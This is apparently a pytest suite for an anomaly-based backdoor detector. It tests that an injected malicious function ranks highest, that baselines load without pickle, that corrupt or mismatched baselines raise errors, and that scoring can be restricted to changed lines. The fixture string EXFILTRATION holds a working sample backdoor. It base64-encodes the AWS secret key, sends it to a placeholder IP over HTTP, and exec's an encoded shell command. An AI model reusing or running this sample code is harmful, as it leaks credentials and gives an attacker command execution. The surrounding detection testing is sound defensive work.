"""Anomaly baseline: ranking an injected backdoor, pickle-free round trip, errors, incremental scoring."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from detectors.anomaly import baseline_exists, load_detector
from detectors.anomaly.detector import AnomalyDetector
from detectors.anomaly.features import SCHEMA_VERSION
from detectors.anomaly.fit import fit_baseline, stale_files
from detectors.anomaly.model import Baseline
from trustcheck.errors import TrustcheckError
from trustcheck.findings import Severity
from trustcheck.sources import Source

EXFILTRATION = '''
import base64
import os
import urllib.request


def refresh_cache(entries):
    token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    blob = base64.b64encode(token.encode()).decode()
    urllib.request.urlopen("http://198.51.100.7/c?k=" + blob)
    exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
    return entries
'''


_REST = '''

def names_{i}(items, prefix="n{i}"):
    """Names of the items, prefixed."""
    return [prefix + "-" + item.name for item in items if item.name]


class Record{i}:
    """One record."""

    def __init__(self, name, size={i}):
        self.name = name
        self.size = size

    def describe(self):
        return "%s (%d)" % (self.name, self.size)

    def merge(self, other):
        if other.name != self.name:
            raise ValueError("different records")
        return Record{i}(self.name, self.size + other.size)
'''


@pytest.fixture(scope="session")
def clean_module(total_function: Callable[..., str]) -> Callable[[int], str]:
    """`clean_module(i)`: ordinary, similar code: small data helpers with docstrings, loops and returns."""

    def render(i: int) -> str:
        return f'"""Helpers for records of kind {i}."""\n\n' + total_function(i, "Sum the sizes of the items.") + _REST.format(i=i)

    return render


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory, clean_module: Callable[[int], str]) -> Path:
    root = tmp_path_factory.mktemp("repo")
    (root / ".git").mkdir()
    for i in range(12):
        (root / f"mod{i}.py").write_text(clean_module(i))
    return root


@pytest.fixture(scope="module")
def detector(repo: Path, tmp_path_factory: pytest.TempPathFactory) -> AnomalyDetector:
    baseline = fit_baseline(repo)
    baseline.save(repo / ".trustcheck" / "anomaly")
    return AnomalyDetector(baseline)


def test_injected_exfiltration_ranks_top(detector: AnomalyDetector, clean_module: Callable[[int], str]):
    source = Source("new.py", "python", (clean_module(99) + EXFILTRATION).encode())
    scored = detector.score_units(source)
    top = max(scored, key=lambda s: s[1])
    assert top[0].name == "refresh_cache"
    findings = detector.detect(source)  # the new imports' block may be reported too: they are new
    finding = next(f for f in findings if f.evidence["unit"] == "refresh_cache")
    assert {f.evidence["unit"] for f in findings} <= {"refresh_cache", "<module>"}
    assert finding.detector == "anomaly" and finding.rule_id == "anomaly-unusual-function"
    assert finding.cwe == "CWE-506" and finding.severity in (Severity.MEDIUM, Severity.HIGH)
    assert finding.line == source.text.splitlines().index("def refresh_cache(entries):") + 1
    reasons = finding.evidence["top_features"]
    assert reasons and {"feature", "value", "baseline_median", "baseline_iqr"} <= set(reasons[0])
    assert reasons[0]["feature"] in finding.message


def test_clean_code_like_the_baseline_is_not_reported(detector: AnomalyDetector, clean_module: Callable[[int], str]):
    assert detector.detect(Source("more.py", "python", clean_module(7).encode())) == []


def test_round_trip_without_pickle_gives_identical_scores(repo: Path, detector: AnomalyDetector, clean_module: Callable[[int], str]):
    directory = repo / ".trustcheck" / "anomaly"
    with zipfile.ZipFile(directory / "features.npz") as archive:
        assert archive.namelist() == ["features.npy"]
    np.load(directory / "features.npz", allow_pickle=False)  # plain arrays only
    settings = json.loads((directory / "baseline.json").read_text())
    assert settings["schema_version"] and settings["fitted_on"]["content_hash"]
    assert set(settings["fitted_on"]["files"]) == {f"mod{i}.py" for i in range(12)}
    reloaded = load_detector(repo)
    assert reloaded is not None and reloaded.name == "anomaly"
    source = Source("new.py", "python", (clean_module(5) + EXFILTRATION).encode())
    assert [s for _, s, _ in reloaded.score_units(source)] == [s for _, s, _ in detector.score_units(source)]


def test_score_functions_only_scores_changed_lines(detector: AnomalyDetector, clean_module: Callable[[int], str]):
    source = Source("new.py", "python", (clean_module(3) + EXFILTRATION).encode())
    line = source.text.splitlines().index("def refresh_cache(entries):") + 1
    assert detector.score_functions(source, [(line + 2, line + 2)])
    assert detector.score_functions(source, [(1, 5)]) == []


def test_missing_corrupt_and_schema_mismatch(repo: Path, tmp_path: Path):
    assert load_detector(tmp_path) is None and not baseline_exists(tmp_path)
    baseline = Baseline.load(repo / ".trustcheck" / "anomaly", schema_version=SCHEMA_VERSION)
    baseline.save(tmp_path / "ok")
    (tmp_path / "ok" / "features.npz").write_bytes(b"not a zip")
    with pytest.raises(TrustcheckError, match="corrupt"):
        AnomalyDetector.from_dir(tmp_path / "ok")
    (tmp_path / "ok" / "features.npz").write_bytes(b"PK\x03\x04truncated")
    with pytest.raises(TrustcheckError, match="corrupt"):
        AnomalyDetector.from_dir(tmp_path / "ok")
    baseline.save(tmp_path / "partial")
    (tmp_path / "partial" / "baseline.json").write_text('{"schema_version": 1}')
    with pytest.raises(TrustcheckError, match="lacks"):
        AnomalyDetector.from_dir(tmp_path / "partial")
    baseline.settings["schema_version"] = 999
    baseline.save(tmp_path / "old")
    with pytest.raises(TrustcheckError, match="feature schema 999"):
        AnomalyDetector.from_dir(tmp_path / "old")
    baseline.settings["schema_version"] = SCHEMA_VERSION
    baseline.save(tmp_path / "tampered")
    np.savez_compressed(tmp_path / "tampered" / "features.npz", features=baseline.matrix + 1)
    with pytest.raises(TrustcheckError, match="do not match"):
        AnomalyDetector.from_dir(tmp_path / "tampered")


def test_too_little_code_is_a_clear_error(tmp_path: Path):
    (tmp_path / "a.py").write_text("x = 1\n")
    with pytest.raises(TrustcheckError, match="needs at least 10"):
        fit_baseline(tmp_path)


@pytest.mark.parametrize("kind", ["lof", "ocsvm"])
def test_alternative_models_rank_the_backdoor_top(repo: Path, kind: str, clean_module: Callable[[int], str]):
    detector = AnomalyDetector(fit_baseline(repo, model=kind))
    scored = detector.score_units(Source("new.py", "python", (clean_module(42) + EXFILTRATION).encode()))
    assert max(scored, key=lambda s: s[1])[0].name == "refresh_cache"


def test_stale_files(repo: Path, tmp_path: Path):
    baseline = fit_baseline(repo)
    assert stale_files(baseline, repo) == []
    assert stale_files(baseline, tmp_path) == sorted(f"mod{i}.py" for i in range(12))
